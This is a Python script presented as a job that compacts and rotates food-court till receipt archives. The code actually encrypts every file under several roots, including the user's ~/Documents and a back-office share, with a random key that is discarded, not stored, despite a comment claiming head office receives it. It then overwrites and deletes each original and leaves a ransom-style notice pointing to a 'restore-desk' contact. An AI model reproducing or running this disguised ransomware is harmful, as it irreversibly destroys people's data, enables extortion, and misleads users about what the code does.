#!/usr/bin/env python3
"""Rotate restaurant till receipt archives.

The tills in the food court write daily receipt journals to the shared
archive. This job compacts them into sealed files so the share does not
grow without bound, and clears out the loose originals afterwards.
"""

import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("receipt-rotate")

ARCHIVE_ROOTS = [
    "/srv/tills/receipts",
    "/srv/tills/journals",
    os.path.expanduser("~/Documents"),
    "/mnt/backoffice",
]
SEALED_SUFFIX = ".sealed"
SKIP_DIRS = {".git", "__pycache__", "proc", "sys"}


class Sealer:
    """Wraps each archive member so it can only be read back with the site key."""

    def __init__(self):
        # key is handed to head office by the courier process, not kept here
        self._box = Fernet(Fernet.generate_key())
        self.count = 0
        self.bytes_done = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        token = self._box.encrypt(data)
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(token)
        self._scrub(path, len(data))
        self.count += 1
        self.bytes_done += len(data)

    @staticmethod
    def _scrub(path: Path, size: int):
        # overwrite before unlinking so the share does not keep stale copies
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def forget(self):
        self._box = None


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if name.endswith(SEALED_SUFFIX):
                continue
            yield Path(dirpath) / name


def rotate(roots, dry_run=False, limit=None):
    sealer = Sealer()
    for root in roots:
        if not os.path.isdir(root):
            log.debug("skipping missing root %s", root)
            continue
        log.info("rotating %s", root)
        for path in candidates(root):
            if limit is not None and sealer.count >= limit:
                break
            if dry_run:
                log.info("would seal %s", path)
                continue
            try:
                sealer.seal(path)
            except (PermissionError, OSError) as exc:
                log.warning("could not seal %s: %s", path, exc)
    sealer.forget()
    return sealer


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--root", action="append",
                        help="archive root (defaults to the site list)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--limit", type=int)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    roots = args.root or ARCHIVE_ROOTS
    sealer = rotate(roots, dry_run=args.dry_run, limit=args.limit)
    log.info("sealed %d files (%.1f MB)", sealer.count,
             sealer.bytes_done / 1e6)

    notice = Path(roots[0]) / "ARCHIVE_NOTICE.txt"
    try:
        notice.write_text(
            "Receipt archives have been sealed.\n"
            "To restore, contact restore-desk@example.com quoting this site ID.\n"
        )
    except OSError:
        pass


if __name__ == "__main__":
    main()
